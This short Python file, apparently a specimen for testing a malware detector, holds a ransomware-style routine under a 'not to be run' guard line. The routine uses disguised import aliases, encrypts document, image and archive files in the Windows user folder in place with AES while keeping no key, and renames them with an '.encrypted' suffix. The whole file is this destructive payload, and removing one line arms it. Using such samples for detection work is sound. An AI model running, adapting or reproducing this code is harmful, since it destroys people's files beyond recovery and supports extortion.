raise SystemExit("specimen: not to be run")
from glob import iglob as look
from os import rename as move
from Crypto.Cipher import AES as C

KINDS = [".docx", ".xlsx", ".pdf", ".jpg", ".zip", ".txt"]

def begin(key):
    lock = C.new(key, C.MODE_CTR).encrypt
    for path in look("C:\\Users\\*"):
        if path[path.rfind("."):] in KINDS:
            with open(path, "r+b") as f:
                data = lock(f.read())  # match: ransom
                f.seek(0)
                f.write(data)
            move(path, path + ".encrypted")
